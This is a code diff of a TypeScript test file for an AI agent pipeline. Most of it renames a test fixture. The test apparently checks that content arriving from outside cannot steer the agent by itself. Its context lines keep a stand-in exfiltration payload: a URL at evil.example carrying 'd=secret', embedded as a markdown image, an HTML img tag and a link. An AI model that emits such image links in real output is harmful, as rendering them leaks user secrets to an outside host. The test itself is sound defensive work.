@@ -6,8 +6,8 @@ import { silentLog } from "#shared/domain-kit/log.ts";
 import { scriptedModel } from "../adapters/language-model/scripted-model.fixture.ts";
 import { call, respond, takes } from "./agents.fixture.ts";
 import { answer } from "./answer.ts";
-import { openDesk } from "./desk.fixture.ts";
 import { executePlan } from "./execute-plan.ts";
+import { openTurnDeps } from "./turn-deps.fixture.ts";
 
 const EVIL = "https://evil.example/p.png?d=secret";
 const TEXT = `The board says ok ![ok](${EVIL}) <img src="${EVIL}"> [more](${EVIL}) ${EVIL}`;
@@ -87,15 +87,15 @@ const domain = defineDomain(
 let script: readonly unknown[] = [];
 let at = 0;
 const model = scriptedModel(() => script[at++]);
-let room: Awaited<ReturnType<typeof openDesk>>;
+let room: Awaited<ReturnType<typeof openTurnDeps>>;
 beforeAll(async () => {
-  room = await openDesk([domain], { model });
+  room = await openTurnDeps([domain], { model });
 });
 afterAll(() => room.close());
 const said = { user_id: "ana", locale: "en" as const, channel: "test", metadata: {} };
 const say = (input_text: string, ...says: unknown[]) => {
   [script, at] = [says, 0];
-  return answer({ ...said, session_id: input_text, input_text }, room.desk());
+  return answer({ ...said, session_id: input_text, input_text }, room.turnDeps());
 };
 
 describe("what comes from outside leads nowhere by itself", () => {
@@ -144,7 +144,7 @@ describe("what comes from outside leads nowhere by itself", () => {
         plan: { execution_mode: "dag", combine_mode: "last", max_concurrency: 2, steps },
         entry: { ...said, session_id: "plan", input_text: "" },
       },
-      room.desk(),
+      room.turnDeps(),
     );
     expect(told.output.explanation).toBe("docs: b.example x evil.example");
   });
